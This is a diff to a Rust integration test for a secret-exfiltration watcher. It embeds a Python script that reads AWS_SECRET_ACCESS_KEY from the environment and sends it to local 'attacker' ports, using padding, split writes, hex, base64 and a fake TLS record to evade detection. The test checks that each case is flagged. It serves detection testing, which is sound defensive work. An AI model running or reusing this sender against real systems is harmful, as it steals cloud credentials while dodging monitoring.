@@ -13,7 +13,6 @@ use watcher_tests::{Listener, Netns, lab::in_netns, read_jsonl, root_or_skip, wa
 
 /// Subnets of Netns (distinct per test in this file, away from the other files' ones).
 const SUBNET_DEPTH: u16 = 1101;
-#[allow(dead_code)]
 const SUBNET_STREAM: u16 = 1102;
 const SUBNET_REDACT: u16 = 1103;
 
@@ -214,4 +213,102 @@ fn a_protected_value_on_the_command_line_is_in_no_file_watcher_writes() {
     assert!(stderr.contains("cannot run Zq…(26 chars)-x"), "{stderr}");
     assert_no_form("stderr", &stderr, value);
     assert_no_form("the log", &std::fs::read_to_string(dir.path().join("e2.jsonl")).unwrap(), value);
+}
+
+// ------------------------------------------------------------------------ whole streams
+
+/// Python: each case to its own attacker port (argv: host, then the ports in order).
+const SENDER: &str = r#"
+import os, socket, sys, time, base64, binascii
+host = sys.argv[1]
+ports = [int(p) for p in sys.argv[2:]]
+v = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
+def tcp(port, *pieces, nodelay=False, pause=0.0):
+    s = socket.create_connection((host, port), timeout=3)
+    if nodelay:
+        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    for p in pieces:
+        s.sendall(p)
+        if pause:
+            time.sleep(pause)
+    s.close()
+half = len(v) // 2
+# 1. after 700 bytes of padding, in one write
+tcp(ports[0], b"POST /u HTTP/1.1\r\n\r\n" + b"p" * 700 + b"&k=" + v + b"&end")
+# 2. split across two writes
+tcp(ports[1], b"x=" + v[:half], v[half:] + b"\n")
+# 3. split across two TCP segments (no Nagle, a pause between)
+tcp(ports[2], b"GET /" + v[:half], v[half:] + b" HTTP/1.1\r\n\r\n", nodelay=True, pause=0.05)
+# 4. hex, in a UDP datagram after the first
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.connect((host, ports[3]))
+u.send(b"hello")
+time.sleep(0.05)
+u.send(b"d=" + binascii.hexlify(v))
+u.close()
+# 5. base64 after 3000 bytes, in chunks of 1000
+tcp(ports[4], *[b"q" * 1000] * 3, b"t=" + base64.b64encode(v) + b";")
+# 6. a TLS stream: its bytes are not searched
+tcp(ports[5], b"\x16\x03\x01\x02\x00\x01" + v)
+print("SENT", flush=True)
+"#;
+
+#[test]
+fn a_value_anywhere_in_the_first_64k_of_a_stream_or_in_any_datagram_is_found() {
+    if !root_or_skip() {
+        return;
+    }
+    use data_encoding::{BASE64, HEXLOWER};
+    let ns = Netns::new(SUBNET_STREAM).unwrap();
+    let listeners: Vec<Listener> = (0..6).map(|_| attacker(&ns)).collect();
+    let host = ns.ns_v4().to_string();
+    let ports: Vec<String> = listeners.iter().map(|l| l.addr().port().to_string()).collect();
+    let value = "Hx7Kp2Qm9Zr4Lt6Wv8Bn3Cy5Df1Gj0Sa";
+    let dir = tempfile::tempdir().unwrap();
+    let sender = dir.path().join("send.py");
+    std::fs::write(&sender, SENDER).unwrap();
+    let script = format!("/usr/bin/python3 {} {host} {}", sender.display(), ports.join(" "));
+    let allow = format!("  allow:\n    - cidr: {host}/32\n");
+    let env = [("AWS_SECRET_ACCESS_KEY", value)];
+    for mode in ["audit", "enforce"] {
+        let out = run(dir.path(), &policy(mode, &allow), &script, true, &env, &["--quiet"]);
+        assert!(out.stdout.contains("SENT"), "{}\n{}", out.stdout, out.stderr);
+        assert_eq!(out.code, Some(if mode == "audit" { 0 } else { 77 }), "{}", out.stderr);
+        // The attacker really got each form (the test sends what it says).
+        let got = |i: usize| listeners[i].payloads().concat();
+        let has = |hay: &[u8], needle: &[u8]| hay.windows(needle.len()).any(|w| w == needle);
+        assert!(has(&got(0), value.as_bytes()) && has(&got(2), &value.as_bytes()[value.len() / 2..]));
+        assert!(has(&got(3), HEXLOWER.encode(value.as_bytes()).as_bytes()));
+        assert!(has(&got(4), BASE64.encode(value.as_bytes()).as_bytes()));
+        let sec = out.alerts("secret-exfil");
+        for (i, port) in ports.iter().enumerate().take(5) {
+            let a: Vec<&&Value> =
+                sec.iter().filter(|a| a["message"].as_str().unwrap().contains(&format!("{host}:{port}/"))).collect();
+            assert_eq!(a.len(), 1, "{mode}: case {} (port {port}) not flagged once: {sec:#?}", i + 1);
+            assert_eq!(a[0]["severity"], "critical");
+            assert_eq!(a[0]["variable"], "AWS_SECRET_ACCESS_KEY");
+            assert_eq!(a[0]["package"], "npm:evil-pkg@99.99.9 (postinstall)");
+        }
+        assert!(
+            !sec.iter().any(|a| a["message"].as_str().unwrap().contains(&format!(":{}/", ports[5]))),
+            "TLS searched"
+        );
+        // Each find is a send event with its offset in the stream.
+        let sends: Vec<&Value> = out.events.iter().filter(|e| e["kind"] == "send" && e["secrets"].is_array()).collect();
+        let at = |port: &str, enc: &str| -> u64 {
+            let e = sends
+                .iter()
+                .find(|e| e["dport"].to_string() == port && e["secrets"][0]["encoding"] == enc)
+                .unwrap_or_else(|| panic!("no {enc} send to {port}: {sends:#?}"));
+            e["offset"].as_u64().unwrap()
+        };
+        assert_eq!(at(&ports[0], "raw"), 20 + 700 + 3);
+        assert_eq!(at(&ports[1], "raw"), 2);
+        assert_eq!(at(&ports[2], "raw"), 5);
+        assert!((5 + 2..5 + 4).contains(&at(&ports[3], "hex")), "{}", at(&ports[3], "hex"));
+        assert!((3002..3005).contains(&at(&ports[4], "base64")), "{}", at(&ports[4], "base64"));
+        let log = std::fs::read_to_string(dir.path().join("e.jsonl")).unwrap();
+        assert_no_form("the log", &log, value);
+        assert_no_form("stderr", &out.stderr, value);
+    }
 }
